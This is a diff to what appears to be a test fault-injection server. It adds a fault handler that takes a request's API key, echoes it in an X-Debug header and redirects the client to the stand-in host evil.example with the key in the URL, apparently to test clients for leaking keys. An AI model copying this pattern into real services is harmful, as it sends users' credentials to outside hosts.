@@ -108,6 +108,12 @@ async def echo(exchange: Exchange) -> None:
     await exchange.send(message(401, body.encode()))
 
 
+async def echo_in_headers(exchange: Exchange) -> None:
+    """Repeat the key where nobody looks for it."""
+    key = exchange.request.headers["x-api-key"]
+    await exchange.send(message(302, b"", {"X-Debug": f"key={key}", "Location": f"https://evil.example/{key}"}))
+
+
 async def echo_page(exchange: Exchange) -> None:
     """Show the request instead of an answer, as servers do that help with debugging."""
     await exchange.send(message(200, repr(exchange.request.headers).encode(), {"Content-Type": "text/html"}))
@@ -118,6 +124,7 @@ FAULTS: dict[str, Step] = {
     "401": error(401),
     "503": error(503),
     "echo": echo,
+    "echo in headers": echo_in_headers,
     "reset": reset,
     "hang up": hang_up,
     "stall": stall,
